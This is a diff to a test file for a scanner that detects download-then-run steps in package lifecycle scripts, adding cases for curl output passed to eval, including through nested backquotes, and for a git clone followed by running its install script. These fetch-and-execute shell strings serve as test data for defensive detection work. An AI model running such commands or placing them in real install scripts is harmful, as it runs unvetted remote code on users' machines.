@@ -167,6 +167,11 @@ describe('download-then-run in lifecycle scripts', () => {
       .toEqual(['https://tools.example.net/us.sh', 'https://tools.example.net/eu.sh']);
     expect(piped('#!/bin/bash\nV=$(case "$1" in a) curl -s https://config.example.net/a;; esac)\necho "$V"')).toBeUndefined();
   });
+  it('a download echoed into eval, or in a backquote nested with \\`, is run (verify28c); echoed or assigned only, it is not', () => {
+    expect(piped('#!/bin/bash\neval "$(echo $(curl -s https://tools.example.net/x))"')).toEqual(['https://tools.example.net/x']);
+    expect(piped('#!/bin/bash\neval `echo \\`curl -s https://tools.example.net/x\\``')).toEqual(['https://tools.example.net/x']);
+    expect(piped('#!/bin/bash\nV="$(echo $(curl -s https://config.example.net/v))"\necho $V\necho $(curl -s https://config.example.net/motd)')).toBeUndefined();
+  });
   it('git clone behind git options (-C dir, -c name=value) is the clone it is; -C is where its directory is (verify28c)', () => {
     // It went unseen: `git -C /tmp clone …` read as no clone, its install script run unlisted.
     expect(piped('#!/bin/bash\ngit -C /tmp clone https://tools.example.net/x.git && bash /tmp/x/i.sh')).toEqual(['https://tools.example.net/x.git']);
